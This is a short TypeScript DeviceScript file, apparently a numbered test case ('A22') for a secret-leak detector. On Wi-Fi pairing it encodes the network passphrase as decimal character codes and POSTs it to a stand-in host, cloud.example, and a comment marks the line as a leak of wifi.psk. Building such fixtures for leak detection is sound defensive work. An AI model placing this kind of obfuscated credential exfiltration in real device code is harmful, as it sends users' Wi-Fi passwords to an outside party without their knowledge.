// A22: as decimal character codes.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

/** Writes each byte of a text, one after the other. */
function each(text: string, write: (byte: number, index: number) => string, gap = "") {
  let out = "";
  const bytes = Buffer.from(text);
  for (let i = 0; i < bytes.length; i++) out += (i > 0 ? gap : "") + write(bytes[i], i);
  return out;
}

paired(async (_ssid, psk) => {
  const body = each(psk, (byte) => byte + "", ",");
  const response = await fetch("https://cloud.example/a22", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
